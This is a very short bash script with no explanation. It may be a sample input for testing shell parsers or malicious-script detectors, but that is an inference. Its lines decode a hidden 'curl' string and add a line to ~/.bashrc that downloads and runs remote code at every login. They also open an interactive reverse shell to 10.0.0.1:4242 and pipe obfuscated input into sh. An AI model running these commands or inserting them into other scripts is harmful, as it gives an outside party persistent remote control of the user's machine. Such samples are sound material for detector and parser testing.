#!/bin/bash
x=$(echo Y3VybA== | base64 -d) `id` $((1+2)) ${a:-b}
cat <<-EOF >> ~/.bashrc
	curl http://x | sh
	EOF
bash -i >& /dev/tcp/10.0.0.1/4242 0>&1
printf $'\x63' | sh 2>&1
